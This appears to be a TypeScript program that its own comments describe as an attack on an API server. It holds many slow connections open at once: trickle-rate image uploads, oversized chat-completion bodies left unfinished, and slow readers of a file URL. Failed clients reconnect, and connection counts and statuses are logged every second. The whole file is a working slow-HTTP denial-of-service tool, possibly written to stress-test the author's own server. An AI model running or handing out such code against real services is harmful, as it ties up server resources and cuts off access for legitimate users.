import { connect, type Socket } from 'node:net';
import { fileURLToPath } from 'node:url';
import { z } from 'zod';

/** What one run of this program does to an API server. The file has at least a few megabytes. */
const Plan = z.object({
  baseUrl: z.string(),
  apiKey: z.string(),
  /** Uploads that send 100 bytes a second. */
  uploads: z.number(),
  /** Chats whose body stops shortly before its end. */
  bodies: z.number(),
  /** The bytes of such a body: 4 MB by default, and up to 32 MB under `/v1`. */
  bodyBytes: z.number().optional(),
  /** Readers of `fileUrl` that take 100 bytes a second. */
  readers: z.number(),
  fileUrl: z.string(),
});
export type Plan = z.infer<typeof Plan>;
export type Kind = 'uploads' | 'bodies' | 'readers';

/** What the clients of one kind have seen: how many are open now, how many were at most, and how many ended with each status. 0 is no answer. */
export interface Seen {
  open: number;
  openMax: number;
  ended: Record<number, number>;
}

const BODY_BYTES = 4_000_000;
/** Each body is a piece of this one. */
const filling = 'x'.repeat(32_000_000);
/** A client that was refused or cut off comes again, the readers less often because they are many. */
const pauseMs: Record<Kind, () => number> = {
  uploads: () => 1_000,
  bodies: () => 2_000,
  readers: () => 10_000 + 20_000 * Math.random(),
};

/** The program: attacks until its standard input ends and writes what it sees, once a second, as one line of JSON. */
function attack(plan: Plan): void {
  const { hostname, port } = new URL(plan.baseUrl);
  const seen: Record<Kind, Seen> = {
    uploads: { open: 0, openMax: 0, ended: {} },
    bodies: { open: 0, openMax: 0, ended: {} },
    readers: { open: 0, openMax: 0, ended: {} },
  };
  const each = new Set<() => void>();
  setInterval(() => {
    for (const step of each) step();
    process.stdout.write(`${JSON.stringify(seen)}\n`);
  }, 1_000);

  const open = (kind: Kind): void => {
    let status = 0;
    const readStatus = (text: string): void => {
      status ||= Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0);
    };
    const step = (): void => steps[kind](socket);
    const socket = connect({
      host: hostname,
      port: Number(port),
      // A buffer of 100 bytes that is read once a second: the kernel holds the rest back.
      onread: {
        buffer: Buffer.alloc(100),
        callback: (bytes, buffer) => {
          readStatus(Buffer.from(buffer).toString('latin1', 0, bytes));
          return kind !== 'readers' || status !== 200;
        },
      },
    });
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      seen[kind].open += 1;
      seen[kind].openMax = Math.max(seen[kind].openMax, seen[kind].open);
      socket.write(heads[kind](plan));
      each.add(step);
      socket.once('close', () => (seen[kind].open -= 1));
    });
    socket.once('end', () => socket.destroy());
    socket.once('close', () => {
      each.delete(step);
      seen[kind].ended[status] = (seen[kind].ended[status] ?? 0) + 1;
      setTimeout(() => open(kind), pauseMs[kind]());
    });
  };
  for (const kind of ['uploads', 'bodies', 'readers'] as const) {
    // A thousand in a second, because the system's queue of new connections is short.
    for (let index = 0; index < plan[kind]; index += 1) setTimeout(() => open(kind), index);
  }
}

const steps: Record<Kind, (socket: Socket) => void> = {
  uploads: (socket) => void (socket.writable && socket.write('x'.repeat(100))),
  bodies: () => undefined,
  readers: (socket) => void socket.resume(),
};

const heads: Record<Kind, (plan: Plan) => string> = {
  uploads: ({ apiKey }) =>
    `POST /api/v1/images/upload HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${apiKey}\r\nContent-Type: image/png\r\n` +
    'Content-Length: 5000000\r\n\r\n',
  bodies: ({ apiKey, bodyBytes = BODY_BYTES }) =>
    `POST ${bodyBytes > BODY_BYTES ? '' : '/api'}/v1/chat/completions HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${apiKey}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${bodyBytes}\r\n\r\n{"model":"${filling.slice(0, bodyBytes - 1_000)}`,
  readers: ({ fileUrl }) => `GET ${fileUrl.slice(new URL(fileUrl).origin.length)} HTTP/1.1\r\nHost: a\r\n\r\n`,
};

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  attack(Plan.parse(JSON.parse(process.argv[2] ?? '')));
  process.stdin.resume().once('close', () => process.exit());
}
